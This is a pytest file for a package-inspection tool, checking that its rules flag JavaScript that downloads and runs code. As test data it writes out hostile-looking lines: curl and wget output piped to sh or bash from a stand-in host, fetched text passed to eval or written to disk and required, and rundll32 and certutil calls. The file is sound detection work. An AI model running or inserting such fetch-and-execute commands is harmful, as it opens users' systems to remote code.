import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import (
    QUIET,
    assert_only_where_it_runs,
    found,
    found_in,
)


@pytest.mark.parametrize(
    "code",
    [
        "exec('curl -s https://a.example/x | sh');",
        "execSync('wget -qO- https://a.example/x | bash');",
    ],
)
def test_a_command_that_fetches_and_runs(code: str) -> None:
    assert_only_where_it_runs(code, "command-download")


def test_a_message_about_such_a_command_is_none() -> None:
    code = "console.log('Run curl -s https://a.example/x | sh');"
    assert found_in(code, rule="command-download") == []


def test_an_answer_that_is_evaluated() -> None:
    code = "fetch(at).then((answer) => answer.text()).then((text) => {\n  eval(text);\n});"
    (one,) = found_in(code, rule="download-and-run")
    assert (one.severity, one.line) == (Severity.CRITICAL, 2)
    assert found_in(code.replace("eval(", "log("), rule="download-and-run") == []


@pytest.mark.parametrize("code", ["spawn('rundll32', [file]);", "exec('certutil -decode a b');"])
def test_commands_that_hide_what_they_run(code: str) -> None:
    assert_only_where_it_runs(code, "odd-command")


FETCH = "fetch(at).then((answer) => answer.text()).then((text) => {\n"


@pytest.mark.parametrize(
    "run",
    [
        "fs.writeFileSync('/tmp/a.js', text);\n  require('/tmp/a.js');",
        "await writeFile(file, text);\n  await import(file);",
        "fs.writeFileSync(file, text);\n  child_process.spawn('node', [file]);",
        "answer.pipe(fs.createWriteStream(file));\n  execFile(file); // of child_process",
        "fs.writeFileSync(file, text);\n  new Worker(file);",
    ],
)
def test_what_is_fetched_written_and_run(run: str) -> None:
    code = f"{FETCH}  {run}\n}});\n"
    (one,) = found_in(code, rule="download-and-run")
    assert (one.severity, one.line) == (Severity.CRITICAL, 3)
    assert found_in(f"/* {code} */", rule="download-and-run") == []


@pytest.mark.parametrize(
    "code",
    [
        "fs.writeFileSync(file, text);\nrequire('./other');",
        "fs.writeFileSync(file, text);\nrequire(files);",
        "fs.writeFileSync(file, text);\npattern.exec(file);",
        "fs.writeFileSync('a.json', text);\nrequire('b.json');",
    ],
)
def test_a_file_that_is_written_and_not_run(code: str) -> None:
    rules = {one.rule for one in found_in(f"{FETCH}{code}\n}});\n")}
    assert not rules & {"download-and-run", "written-and-run"}


def test_a_file_that_is_made_and_run_without_the_network() -> None:
    code = "fs.writeFileSync(file, text);\nrequire(file);\n"
    (one,) = found_in(code, rule="written-and-run")
    assert (one.severity, one.line) == (Severity.HIGH, 2)


def test_an_answer_that_is_evaluated_far_below() -> None:
    far = "exports.value = (a) => a;\n" * 200
    code = f"const get = (at) => fetch(at);\n{far}get(at).then((text) => new Function(text)());\n"
    (one,) = found_in(code, rule="download-and-run")
    assert (one.severity, one.line) == (Severity.HIGH, 202)


def test_an_answer_that_another_file_evaluates() -> None:
    files = {"a.js": "module.exports = (at) => fetch(at);\n", "b.js": "exports.c = (t) => eval(t);"}
    (one,) = found(QUIET, {**QUIET, **files}, rule="download-and-run")
    assert (one.severity, one.path) == (Severity.HIGH, "b.js")
    before = {**QUIET, "c.js": "fetch(here);\n"}
    after = {**QUIET, **files, "c.js": "fetch(there);\n"}
    assert found(before, after, rule="download-and-run") == []
